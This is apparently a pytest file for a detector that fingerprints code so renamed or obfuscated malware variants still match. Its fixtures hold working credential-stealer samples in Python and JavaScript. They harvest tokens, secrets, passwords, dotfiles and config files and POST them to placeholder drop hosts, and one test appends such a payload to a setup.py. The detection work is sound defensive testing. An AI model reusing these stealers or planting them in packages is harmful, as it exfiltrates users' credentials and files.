"""Code under other names is alike, and what everybody writes is not."""

import random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from counting import calls_of
from ostiary.program.likeness.known import ALIKE
from ostiary.program.likeness.sketch import MAX_BYTES, SIZE, likeness, shapes, sketch
from ostiary.program.likeness.tokens import tokens

FAMILY = """
import base64, json, os, socket, subprocess, urllib.request

DROP = "https://drop.example.invalid/in"

def _gather():
    found = {}
    for name, value in os.environ.items():
        if "TOKEN" in name or "KEY" in name:
            found[name] = value
    for root, folders, files in os.walk(os.path.expanduser("~/.config")):
        for one in files[:20]:
            with open(os.path.join(root, one), "rb") as stream:
                found[one] = base64.b64encode(stream.read(4096)).decode()
    return found

def _send(rows):
    body = json.dumps({"host": socket.gethostname(), "rows": rows}).encode()
    request = urllib.request.Request(DROP, data=body, headers={"X-A": "1"})
    try:
        urllib.request.urlopen(request, timeout=5)
    except OSError:
        subprocess.run(["echo", "later"], check=False)

_send(_gather())
"""

VARIANT = '''
"""A library of colours."""
import base64, json, os, socket, subprocess, urllib.request
# nothing to see
C2 = 'http://other.example.invalid/' "gate?x=2"

def paint():
    shades = {}
    for k, v in os.environ.items():
        if 'SECRET' in k or 'PASSWORD' in k:
            shades[k] = v
    for top, _, leaves in os.walk(os.path.expanduser('~/.local')):
        for leaf in leaves[:99]:
            with open(os.path.join(top, leaf), 'rb') as f:
                shades[leaf] = base64.b64encode(f.read(0x2000)).decode()
    return shades


def blend(palette):
    blob = json.dumps({'h': socket.gethostname(), 'p': palette}).encode()
    ask = urllib.request.Request(C2, data=blob, headers={'Q': 'z'})
    try:
        urllib.request.urlopen(ask, timeout=9)
    except OSError:
        subprocess.run(['true', ''], check=False)


blend(paint())
'''

SCRIPT = """
const fs = require('fs'), os = require('os'), https = require('https'), cp = require('child_process');
function gather() {
  const found = {};
  for (const name of fs.readdirSync(os.homedir())) {
    if (name.startsWith('.'))
      found[name] = Buffer.from(fs.readFileSync(os.homedir() + '/' + name)).toString('base64');
  }
  return found;
}
const to = { host: 'drop.example.invalid', method: 'POST', path: '/in' };
const request = https.request(to, (r) => r.resume());
request.write(JSON.stringify({ env: process.env, host: os.hostname(), rows: gather() }));
request.end(); // send
cp.exec('echo done', () => 0);
"""

SCRIPT_VARIANT = (
    SCRIPT.replace("gather", "_0x1f")
    .replace("found", "_0x2")
    .replace("drop.", "cdn9.")
    .replace("// send", "/* painted */")
    .replace("'", '"')
    .replace(";\n", "\n")
)

SETUP = """
from setuptools import setup, find_packages

with open("README.md") as stream:
    description = stream.read()

setup(
    name="{name}",
    version="{version}",
    description="A thing",
    long_description=description,
    long_description_content_type="text/markdown",
    url="https://{name}.example.invalid",
    author="Ann",
    author_email="ann@example.invalid",
    packages=find_packages(),
    install_requires=["requests", "rich", "attrs"],
    python_requires=">=3.8",
    classifiers=["A", "B", "C", "D", "E"],
    entry_points={{"console_scripts": ["{name}={name}.cli:main"]}},
)
"""

INIT = """
import os, sys, json, base64, socket, subprocess
from .core import one, two, three, four, five, six, seven
from .net import Session, Request, connect, send
from .other import a, b, c, d, e, f, g, h
__all__ = ["one", "two", "three", "four", "five", "six", "seven", "Session", "Request", "connect"]
__version__ = "1.2.3"
__author__ = "Ann"
"""

VERSION = '__version__ = "1.2.3"\nversion_info = (1, 2, 3)\n' * 20


def of(text: str, language: str = "python") -> tuple[int, ...]:
    return sketch(language, text.encode())


def test_a_family_is_alike_under_other_names() -> None:
    assert likeness(of(FAMILY), of(VARIANT)) >= ALIKE
    assert likeness(of(SCRIPT, "javascript"), of(SCRIPT_VARIANT, "javascript")) >= ALIKE


def test_two_programs_are_not_alike() -> None:
    other = """
import subprocess, shutil, glob, zipfile
def build(where):
    for path in glob.glob(where + '/*.c'):
        subprocess.check_output(['cc', '-c', path])
    with zipfile.ZipFile('out.zip', 'w') as archive:
        for path in glob.glob('*.o'):
            archive.write(path)
    shutil.rmtree(where)
def main(argv):
    while argv:
        first = argv.pop()
        if not first.startswith('-'):
            build(first)
        elif first == '-h' or first == '--help':
            print('usage')
"""
    assert of(other)
    assert likeness(of(FAMILY), of(other)) < 0.3


@pytest.mark.parametrize(
    "plain",
    [SETUP.format(name="thing", version="1.0"), INIT, VERSION, "", "x = 1\n", "import os\n" * 500],
)
def test_boilerplate_has_no_sketch(plain: str) -> None:
    assert not of(plain)


def test_a_setup_with_a_payload_has_one_and_is_unlike_the_plain_one() -> None:
    loaded = SETUP.format(name="thing", version="1.0") + FAMILY
    assert of(loaded)
    honest = SETUP.format(name="thing", version="1.0") + (
        "\nimport subprocess, os\nif os.environ.get('CI'):\n"
        "    print(subprocess.check_output(['git', 'describe']).decode())\n"
    )
    assert likeness(of(loaded), of(honest)) < ALIKE


def test_names_strings_numbers_comments_and_layout_are_left_out() -> None:
    one = tokens("python", b"def send(key):  # away\n    return requests.post('https://a', 12)\n")
    two = tokens("python", b'def send(q):\n\n\treturn requests.post("""b\n\nc""", 0x7f)')
    assert one == two
    assert "post" in one
    assert "requests" not in one
    assert tokens("javascript", b"a = `x${b}` // c\n/* d */ + 1") == ["n", "=", "s", "+", "0"]


def test_a_sketch_is_bounded_and_ascending() -> None:
    long = "\n".join(
        FAMILY.replace("_send", f"f{n}").replace("+", "-" * (n % 7)) for n in range(50)
    )
    found = of(long)
    assert len(found) <= SIZE
    assert list(found) == sorted(set(found))


def test_likeness_is_the_share_of_common_runs() -> None:
    assert likeness((1, 2, 3, 4), (1, 2, 3, 5)) == 3 / 5
    assert likeness((), ()) == 0.0
    assert likeness((1,), (1,)) == 1.0


def test_what_is_too_long_is_said() -> None:
    found = shapes(
        "a.whl",
        {"big.py": ("python", b"#" * (MAX_BYTES + 1)), "a.py": ("python", FAMILY.encode())},
        {},
    )
    assert found.large == ("big.py",)
    assert [row.path for row in found.rows] == ["a.py"]


@given(st.binary(max_size=600), st.sampled_from(["python", "javascript", "shell"]))
def test_any_bytes_have_tokens(data: bytes, language: str) -> None:
    assert tokens(language, data) == tokens(language, data)
    assert sketch(language, data * 3) in {(), sketch(language, data * 3)}


@pytest.mark.parametrize(
    "unit",
    [b'"""\\', b"'", b"`\\", b"/*", b'"""""', b"\\", b"f'", b"'''\\'", b"0x_", b"\xff", b"("],
)
@pytest.mark.parametrize("language", ["python", "javascript"])
def test_hostile_text_takes_linear_time(unit: bytes, language: str) -> None:
    text = unit * (300_000 // len(unit))
    assert calls_of(lambda: tokens(language, text)) < 8 * len(text)


def test_the_order_of_functions_matters_little() -> None:
    parts = VARIANT.split("\n\n")
    random.Random(7).shuffle(parts)
    assert likeness(of(FAMILY), of("\n\n".join(parts))) > 0.7
